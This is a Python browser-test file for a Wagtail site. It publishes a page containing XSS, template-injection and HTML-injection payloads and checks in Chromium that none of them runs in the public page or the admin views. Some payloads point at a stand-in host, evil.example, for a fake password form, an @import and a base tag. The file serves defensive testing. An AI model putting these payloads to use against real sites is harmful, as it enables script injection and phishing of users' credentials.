"""Chromium judges whether what people typed is inert: in the page, the editor, its lists, preview and comparison."""

import httpx
import pytest
from wagtail.test.utils.form_data import querydict_from_html

from tests.corpus.contentstates import ent
from tests.corpus.rows import Row, to_send
from tests.editing import contentstate, editor_form, stream
from tests.waiting import until

TRAPS = """
window.__xss = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"])
  window[name] = (...what) => { window.__xss.push(name + " " + what.join()); };
"""
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "--><svg onload=alert(1)>",
    "\"onmouseover='alert(1)'",
    "{{7*7}}{% debug %}${alert(1)}",
]
MARKDOWN = [
    *OWN,
    "[x](javascript:alert(1))",
    "![x](http://evil.example/p.gif)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import url(//evil.example/)</style>",
    "<form action=//evil.example><input name=p type=password>",
    "<base href=//evil.example>",
]


def accepted(surface: str) -> list[Row]:
    return [row for row in to_send(surface) if "I" in row.may and row.may != {"R"}]


def markdown_texts() -> list[str]:
    return MARKDOWN + [row.value() for row in accepted("Markdown / chat text")]


def one_line_texts() -> list[str]:
    return OWN + [value for row in accepted("HTTP forms") if isinstance(value := row.value(), str)]


def rich_texts() -> list[str]:
    links = ("java\tscript:1", "data:text/html,x", 'http://a" onmouseover="alert(1)', "//evil.example")
    return [*map(contentstate, OWN), *(ent("LINK", url=url) for url in links)]


@pytest.fixture(scope="module")
def people(running_site):
    told = running_site.seed_demo()["people"]
    return {(person["office"], person["scope"]): person for person in told}


@pytest.fixture(scope="module")
def secretary(running_site, people):
    name, _, value = next(who for (office, _), who in people.items() if office == "secretariat")["cookie"].partition(
        "="
    )
    with httpx.Client(base_url=running_site.url, cookies={name: value}, timeout=60, follow_redirects=True) as client:
        yield client


@pytest.fixture(scope="module")
def hanoi(running_site) -> int:
    ask = "from cities.models import CityPage; print(CityPage.objects.get(slug='hanoi', locale__language_code='en').pk)"
    return int(running_site.manage("shell", "-v", "0", "-c", ask).split()[-1])


@pytest.fixture(scope="module")
def published(running_site, secretary, hanoi):
    """The page of Hanoi with everything in it, written in the editor."""
    address = f"/admin/pages/{hanoi}/edit/"
    html = secretary.get(address).text
    fields = querydict_from_html(html, form_id=editor_form(html), exclude_csrf=False)
    form = {name: fields.getlist(name) for name in fields}
    figures = [
        (
            "figure",
            dict.fromkeys(("value", "unit", "label", "source"), text[:40])
            | {"as_of": "", "source_url": "", "page": ""},
        )
        for text in OWN
    ]
    quotes = [("quote", {"text": text, "office": text[:100]}) for text in one_line_texts()]
    parts = [
        *(("markdown", text) for text in markdown_texts()),
        *(("text", text) for text in rich_texts()),
        *figures,
        *quotes,
    ]
    typed = {"title": " ".join(OWN)[:250], "introduction": " ".join(OWN), "search_description": " ".join(OWN)}
    empty = {"files-count": "0", "sources-count": "0"}
    answer = secretary.post(
        address,
        data=form | empty | typed | stream("body", *parts),
        headers={"Referer": f"{running_site.url}{address}"},
    )
    assert answer.status_code == 200
    assert "w-messages" in answer.text
    publish = f"from wagtail.models import Page; Page.objects.get(pk={hanoi}).latest_revision.publish()"
    running_site.manage("shell", "-v", "0", "-c", publish)  # whose words they are may not
    until(lambda: b"{{7*7}}" in running_site.get("/en/cities/hanoi/").read())  # who read it before had it kept
    return len(parts)


class Watched:
    """A page in Chromium, with everything written down that inert text never does."""

    def __init__(self, browser, site, cookie: str = ""):
        self.site, self.faults = site, []
        self.context = browser.new_context()
        if cookie:
            name, _, value = cookie.partition("=")
            self.context.add_cookies([{"name": name, "value": value, "url": site.url}])
        self.context.add_init_script(TRAPS)
        self.page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (self.faults.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("request", self.note_request)
        self.page.on("console", self.note_error)

    def note_request(self, request) -> None:
        if not request.url.startswith((self.site.url, "data:", "blob:", "about:")):
            self.faults.append(f"request {request.url}")

    def note_error(self, line) -> None:
        if line.type == "error" and "Applying inline style" not in line.text:  # Draftail's own, and blocked
            self.faults.append(f"console {line.text}")

    def visit(self, path: str) -> list[str]:
        """What happened while the page loaded and the pointer passed over all its links."""
        self.page.goto(self.site.url + path, wait_until="load")
        for link in self.page.locator("main a").all()[:40]:
            link.dispatch_event("mouseover")
        self.page.wait_for_timeout(300)
        found = self.page.evaluate("window.__xss")
        return [*self.faults, *found]


def test_a_reader_sees_all_of_it_as_text(browser, running_site, published):
    reader = Watched(browser, running_site)

    assert reader.visit("/en/cities/hanoi/") == []
    assert reader.page.locator(".block-markdown").count() == len(markdown_texts())
    assert reader.page.locator("main :is(script, iframe, form[action*=evil], style, base, img[src*=evil])").count() == 0


@pytest.mark.parametrize("path", ["edit/", "", "history/", "view_draft/", "revisions/compare/earliest...latest/"])
def test_an_officer_sees_it_as_text_in_the_editor(browser, running_site, people, hanoi, published, path):
    officer = next(who for (office, _), who in people.items() if office == "secretariat")
    at_work = Watched(browser, running_site, officer["cookie"])

    assert at_work.visit(f"/admin/pages/{hanoi}/{path}") == []


def test_the_traps_catch_what_runs(browser, running_site):
    reader = Watched(browser, running_site)
    reader.page.goto(running_site.url + "/en/")

    reader.page.evaluate("window.alert(1)")

    assert reader.page.evaluate("window.__xss") == ["alert 1"]
